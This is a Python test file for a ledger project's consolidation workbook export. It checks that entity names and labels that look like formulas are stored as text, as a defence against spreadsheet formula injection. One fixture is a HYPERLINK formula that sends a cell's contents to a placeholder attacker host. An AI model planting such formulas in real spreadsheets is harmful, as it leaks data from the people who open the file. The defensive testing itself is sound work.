"""The consolidation workbook: every text cell is text, whatever an entity is called."""

from __future__ import annotations

import io
from decimal import Decimal
from uuid import uuid4

import openpyxl

from stateasset.ledger.consolidation import consolidation_workbook
from stateasset.ledger.schemas import (
    ConsolidationMode,
    ConsolidationRead,
    EliminationKind,
    EliminationRow,
    ItemRow,
    NciRow,
    ResultSource,
    StatementVersionUsed,
)

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


def test_names_that_look_like_formulas_are_written_as_strings() -> None:
    parent, child, missing = uuid4(), uuid4(), uuid4()
    names = {parent: EVIL, child: "+1+1", missing: "@SUM(1)"}
    report = ConsolidationRead(
        node="group",
        node_name="=1+1",
        period="2025",
        mode=ConsolidationMode.consolidated,
        source=ResultSource.computed,
        root_id=parent,
        members=[parent, child],
        missing_statements=[missing],
        statement_versions=[StatementVersionUsed(parent, 1), StatementVersionUsed(child, 2)],
        items=[
            ItemRow(
                item="cash",
                label="=A1",
                aggregated=None,
                eliminated=None,
                consolidated=Decimal("1.50"),
            )
        ],
        elimination_summary=[],
        eliminations=[
            EliminationRow(
                kind=EliminationKind.receivable_payable,
                entity_id=parent,
                partner_id=child,
                at_entity_id=parent,
                entity_amount=Decimal(5),
                partner_amount=Decimal(5),
                difference=Decimal(0),
            )
        ],
        nci=[
            NciRow(
                entity_id=child,
                consolidated_interest=0.6,
                own_net_assets=Decimal(10),
                non_controlling_interest=Decimal(4),
                net_profit=Decimal(1),
                nci_profit=Decimal("0.4"),
            )
        ],
        missing_investment_lines=[],
        notes=[],
    )
    book = openpyxl.load_workbook(io.BytesIO(consolidation_workbook(report, names)))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    looks_like_formula = [c for c in cells if isinstance(c.value, str) and c.value[:1] in "=+-@"]
    assert {c.value for c in looks_like_formula} >= {EVIL, "+1+1", "@SUM(1)", "=A1"}
    assert all(c.data_type == "s" for c in looks_like_formula)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
